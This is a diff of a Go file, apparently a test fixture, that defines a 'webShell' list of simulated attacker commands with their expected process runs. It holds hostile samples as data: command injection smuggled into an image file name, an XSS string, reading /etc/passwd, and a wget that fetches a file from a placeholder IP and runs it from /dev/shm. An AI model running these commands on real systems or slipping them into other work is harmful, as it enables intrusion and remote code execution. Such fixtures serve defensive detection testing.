@@ -33,7 +33,7 @@ func upload(name string) command {
 // around, a program from outside, a job that starts it again. The address is one of those
 // reserved for documentation.
 var webShell = []command{
-	sh("convert 'x.png;id' -resize 800x600 thumb.jpg", run("/usr/bin/id", "id")),
+	sh("convert 'x.png';id;'' -resize 800x600 thumb.jpg", run("/usr/bin/id", "id")),
 	sh("convert '<script>alert(1)</script>\x1b[31m.png' -resize 800x600 thumb.jpg"),
 	sh("cat /etc/passwd; uname -a", run("/usr/bin/cat", "cat /etc/passwd"), run("/usr/bin/uname", "uname -a")),
 	sh("cd /dev/shm && wget -q http://198.51.100.23/k -O .k && chmod +x .k && ./.k",
